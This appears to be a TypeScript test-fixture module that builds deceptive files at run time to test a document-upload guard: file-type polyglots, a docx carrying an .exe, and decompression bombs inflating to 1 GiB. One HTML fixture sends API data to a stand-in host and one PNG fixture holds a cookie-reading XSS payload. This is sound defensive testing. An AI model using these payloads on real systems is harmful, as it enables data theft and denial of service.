/**
 * Files that are not what they claim (issue 22 item 7) and archives that cost too much to open
 * (issue 22 item 5), built at run time for the tests — nothing hostile is committed.
 */
import zlib from 'node:zlib';
import { Document, Packer, Paragraph } from 'docx';
import JSZip from 'jszip';

const u16 = (n: number) => Buffer.from([n & 255, (n >> 8) & 255]);
const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
};

export interface RawZipEntry {
  name: string;
  /** The entry's data as stored (deflated when method is 8). */
  data: Buffer;
  crc: number;
  /** The inflated size written in the headers (may lie). */
  rawSize: number;
  method: 0 | 8;
}

/** A zip written by hand: entries share one data block when `sameData`, sizes may lie. */
export function handZip(entries: RawZipEntry[], sameData = false): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  let sharedOffset = -1;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    let at = offset;
    if (!sameData || sharedOffset < 0) {
      const local = Buffer.concat([
        u32(0x04034b50),
        u16(20),
        u16(0x0800),
        u16(e.method),
        u16(0),
        u16(0),
        u32(e.crc),
        u32(e.data.length),
        u32(e.rawSize),
        u16(name.length),
        u16(0),
        name,
      ]);
      parts.push(local, e.data);
      at = offset;
      offset += local.length + e.data.length;
      if (sameData) sharedOffset = at;
    } else at = sharedOffset;
    central.push(
      Buffer.concat([
        u32(0x02014b50),
        u16(20),
        u16(20),
        u16(0x0800),
        u16(e.method),
        u16(0),
        u16(0),
        u32(e.crc),
        u32(e.data.length),
        u32(e.rawSize),
        u16(name.length),
        u16(0),
        u16(0),
        u16(0),
        u16(0),
        u32(0),
        u32(at),
        name,
      ]),
    );
  }
  const cd = Buffer.concat(central);
  const end = Buffer.concat([
    u32(0x06054b50),
    u16(0),
    u16(0),
    u16(entries.length),
    u16(entries.length),
    u32(cd.length),
    u32(offset),
    u16(0),
  ]);
  return Buffer.concat([...parts, cd, end]);
}

const stored = (name: string, text: string): RawZipEntry => {
  const data = Buffer.from(text, 'utf8');
  return { name, data, crc: zlib.crc32(data), rawSize: data.length, method: 0 };
};

export const CONTENT_TYPES = stored(
  '[Content_Types].xml',
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);
const RELS = stored(
  '_rels/.rels',
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
);

/**
 * A Windows program (MZ header, DOS stub, PE header) whose DOS stub carries "%PDF-1.7": a
 * reader that looks for "%PDF-" anywhere in the first kilobyte takes it for a PDF.
 */
export function exeWithPdfInStub(): Buffer {
  const b = Buffer.alloc(2048);
  b.write('MZ', 0, 'latin1');
  b.writeUInt16LE(0x90, 2);
  b.writeUInt16LE(3, 4);
  b.writeUInt16LE(4, 8);
  b.writeUInt16LE(0xffff, 12);
  b.writeUInt16LE(0xb8, 16);
  b.writeUInt16LE(0x40, 24);
  b.writeUInt32LE(0x100, 0x3c); // e_lfanew: where the PE header starts
  b.write('\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21', 0x40, 'latin1');
  b.write('%PDF-1.7\nThis program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  b.write('PE\0\0', 0x100, 'latin1');
  b.writeUInt16LE(0x14c, 0x104); // i386
  b.writeUInt16LE(1, 0x106); // one section
  return b;
}

/** A web page with "%PDF-" in its first kilobyte (and a script that would run in the site's origin). */
export const htmlWithPdfMarker = (): Buffer =>
  Buffer.from(
    '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Biên bản</title></head>\n' +
      '<body><!-- %PDF-1.4 --><p>Biên bản nghiệm thu</p>' +
      "<script>fetch('/api/v1/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//x.invalid',t))</script></body></html>\n",
    'utf8',
  );

/** A PNG signature and header chunk, then a web page instead of image data. */
export function pngThenHtml(): Buffer {
  const ihdr = Buffer.concat([Buffer.from('IHDR'), u32be(1), u32be(1), Buffer.from([8, 6, 0, 0, 0])]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    u32be(13),
    ihdr,
    u32be(zlib.crc32(ihdr)),
    Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>', 'latin1'),
  ]);
}
function u32be(n: number) {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
}

/** A real .docx (written by the docx library) with one paragraph per line. */
export async function realDocx(lines: string[] = ['KẾ HOẠCH', 'Chuyển đổi số năm 2026']): Promise<Buffer> {
  return Buffer.from(
    await Packer.toBuffer(new Document({ sections: [{ children: lines.map((l) => new Paragraph(l)) }] })),
  );
}

/** A real .docx that carries a Windows program: as an embedded .exe, or disguised as its picture. */
export async function docxCarryingExe(disguised = false): Promise<Buffer> {
  const zip = await JSZip.loadAsync(await realDocx());
  zip.file(disguised ? 'word/media/image1.png' : 'word/embeddings/setup.exe', exeWithPdfInStub());
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/**
 * About 1 MB that inflates to 1 GiB: one deflate block of 1 MiB of zeros, ended with a sync
 * flush so that it can be repeated, 1,024 times, then an empty final block. The directory
 * tells the truth about the size unless `declaredSize` says otherwise.
 */
export function docxInflatingTo1GiB(declaredSize?: number): Buffer {
  const mib = Buffer.alloc(1024 * 1024);
  const block = zlib.deflateRawSync(mib, { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
  const data = Buffer.concat([...Array<Buffer>(1024).fill(block), Buffer.from([0x03, 0x00])]);
  let crc = 0;
  for (let i = 0; i < 1024; i++) crc = zlib.crc32(mib, crc);
  const size = 1024 * 1024 * 1024;
  return handZip([
    CONTENT_TYPES,
    RELS,
    { name: 'word/document.xml', data, crc, rawSize: declaredSize ?? size, method: 8 },
  ]);
}

/** A .docx whose word/document.xml is `xml` (deflated). */
export function docxWithDocumentXml(xml: Buffer): Buffer {
  const data = zlib.deflateRawSync(xml, { level: 9 });
  return handZip([
    CONTENT_TYPES,
    RELS,
    { name: 'word/document.xml', data, crc: zlib.crc32(xml), rawSize: xml.length, method: 8 },
  ]);
}

/** word/document.xml of `bytes` bytes: the same paragraph again and again. */
export function repeatedParagraphs(bytes: number, paragraph: string): Buffer {
  const head = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>',
  );
  const tail = Buffer.from('</w:body></w:document>');
  const p = Buffer.from(paragraph, 'utf8');
  const n = Math.max(1, Math.floor((bytes - head.length - tail.length) / p.length));
  return Buffer.concat([head, Buffer.alloc(n * p.length, p), tail]);
}

/**
 * Issue 22 item 5: a .docx of about 225 KB whose word/document.xml inflates to 63 MB — under
 * the old 64 MB guard — which mammoth parsed for 93–145 s on the main thread.
 */
export const docxOf63MB = () =>
  docxWithDocumentXml(
    repeatedParagraphs(
      63 * 1024 * 1024,
      '<w:p><w:r><w:t xml:space="preserve">Nhiệm vụ chuyển đổi số cấp xã năm 2026. </w:t></w:r></w:p>',
    ),
  );

/** A .docx within every size limit whose parsing still costs seconds and far more memory (tiny paragraphs). */
export const docxCostlyToParse = (bytes = 7 * 1024 * 1024) =>
  docxWithDocumentXml(repeatedParagraphs(bytes, '<w:p><w:r><w:t>x</w:t></w:r></w:p>'));
